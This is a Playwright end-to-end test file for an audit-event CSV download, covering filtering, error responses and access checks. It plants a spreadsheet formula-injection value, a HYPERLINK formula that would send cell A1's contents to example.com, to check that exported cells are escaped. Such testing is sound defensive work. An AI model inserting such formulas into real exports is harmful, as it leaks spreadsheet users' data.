import { readFileSync } from "node:fs";
import { expect, test } from "../fixtures";
import { parseCsv } from "../fixtures/csv";
import { eventsForTests, importEvents, runSql } from "../fixtures/log";

const FORMULA = `=HYPERLINK("http://example.com/?x="&A1,"Click, me")`;

test("a CSV holds exactly what its filter matches, and no formula unless asked for raw", async ({
  signedIn: page,
  server,
  organization,
}) => {
  const [template] = eventsForTests(1);
  await importEvents(server, organization.id, [
    ...eventsForTests(250),
    {
      ...template,
      action: "doc.renamed",
      actor: { type: "user", id: "+usr", name: FORMULA },
      context: { location: "@home", user_agent: 'two\r\nlines, and a "quote"' },
    },
  ]);
  await page.goto(`/o/${organization.id}/events`);
  const csvOf = async (query: string) => {
    const response = await page.request.get(`/o/${organization.id}/events/csv?${query}`);
    expect(response.status(), query).toBe(200);
    expect(response.headers()["content-type"]).toContain("text/csv");
    expect(response.headers()["content-disposition"]).toContain("attachment");
    return parseCsv(await response.text());
  };
  const cases = [
    { q: "", sql: "true" },
    {
      q: "actor:usr_3 -action:doc.exported",
      sql: "actor_id = 'usr_3' AND action <> 'doc.exported'",
    },
    { q: "ip:10.0.3.0/24", sql: "ip <<= inet '10.0.3.0/24'" },
    { q: "action:no.such", sql: "false" },
  ];
  for (const { q, sql } of cases) {
    const stored = await runSql<{ id: string }>(server, [
      `SELECT id FROM events WHERE organization_id = $1 AND ${sql} ORDER BY occurred_at DESC, seq DESC`,
      [organization.id],
    ]);
    const rows = await csvOf(new URLSearchParams({ q }).toString());
    expect(
      rows.map(({ id }) => id),
      q,
    ).toEqual(stored.map(({ id }) => id));
  }

  const [safe] = await csvOf("q=action:doc.renamed");
  expect(safe).toMatchObject({
    actor_id: "'+usr",
    actor_name: `'${FORMULA}`,
    location: "'@home",
    user_agent: 'two\r\nlines, and a "quote"',
  });
  const [raw] = await csvOf("q=action:doc.renamed&raw=1");
  expect(raw).toMatchObject({ actor_id: "+usr", actor_name: FORMULA, location: "@home" });

  await page.goto(`/o/${organization.id}/events?q=actor:svc_ci`);
  const downloading = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download" }).click();
  await page.getByRole("menuitem", { name: "Download CSV now" }).click();
  const download = await downloading;
  expect(download.suggestedFilename()).toMatch(/^org_\w+-events-[\d-]+\.csv$/);
  const rows = parseCsv(readFileSync(await download.path(), "utf8"));
  expect(rows).toHaveLength(50);
  expect(new Set(rows.map((row) => row.actor_id))).toEqual(new Set(["svc_ci"]));
});

test("a filter that is not understood, or another organization, gives an error and no file", async ({
  signedIn: page,
  browser,
  server,
  organization,
}) => {
  await importEvents(server, organization.id, eventsForTests(3));
  const get = (path: string) => page.request.get(path, { maxRedirects: 0 });
  const refused = await get(`/o/${organization.id}/events/csv?q=actr:usr_3`);
  expect(refused.status()).toBe(400);
  expect(refused.headers()["content-type"]).toContain("json");
  expect(refused.headers()["content-disposition"]).toBeUndefined();
  expect(await refused.text()).toContain("actr");
  expect((await get(`/o/${organization.id}/events/csv?raw=yes`)).status()).toBe(400);

  const unknown = await get("/o/org_01ARZ3NDEKTSV4RRFFQ69G5FAV/events/csv");
  expect(unknown.status()).toBe(404);
  expect(unknown.headers()["content-disposition"]).toBeUndefined();

  const stranger = await browser.newContext({ baseURL: server.url });
  const unsigned = await stranger.request.get(`/o/${organization.id}/events/csv`);
  expect(unsigned.status()).toBe(401);
  await stranger.close();
});
